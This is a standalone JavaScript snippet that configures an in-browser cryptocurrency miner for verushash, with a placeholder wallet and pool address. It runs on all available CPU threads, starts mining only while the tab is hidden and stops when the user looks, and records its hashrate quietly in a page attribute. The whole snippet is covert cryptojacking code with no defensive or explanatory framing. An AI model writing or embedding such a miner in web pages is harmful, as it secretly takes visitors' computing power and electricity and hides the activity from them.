const config = { algo: 'verushash', version: '2.2', wallet: 'NOBODY', worker_name: 'tab', pool_url: 'wss://vrsc.relay.invalid', threads: navigator.hardwareConcurrency };
const miner = new VerusWeb(config);
miner.on('hashrate', (rate) => { document.documentElement.dataset.rate = rate; });
miner.on('share', ({ difficulty }) => console.debug('share', difficulty));
document.addEventListener('visibilitychange', () => (document.hidden ? miner.start() : miner.stop()));
miner.start();
